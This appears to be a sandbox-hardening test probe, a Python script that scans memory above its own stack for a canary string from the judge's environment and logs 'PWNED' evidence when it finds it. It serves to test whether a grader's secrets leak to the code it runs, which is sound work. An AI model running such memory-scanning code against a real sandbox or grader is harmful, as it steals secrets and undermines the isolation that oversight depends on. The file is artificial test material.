# attack: env_on_the_stack
# kind: leak   task: any   naive: run
# attempts: find the judge's environment where the kernel put it: above the stack of the process that was forked
import os

def evidence(found="yes"):
    said = f"PWNED env_on_the_stack {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/env_on_the_stack", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

import ctypes

libc = ctypes.CDLL(None)
end = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value & ~4095
for page in range(end, end + (1 << 22), 4096):
    if libc.msync(ctypes.c_void_p(page), ctypes.c_size_t(4096), 1):
        break
    if b"SBX_" + b"CANARY" in ctypes.string_at(page, 4096):
        evidence("the judge's secret is above my stack")
        break
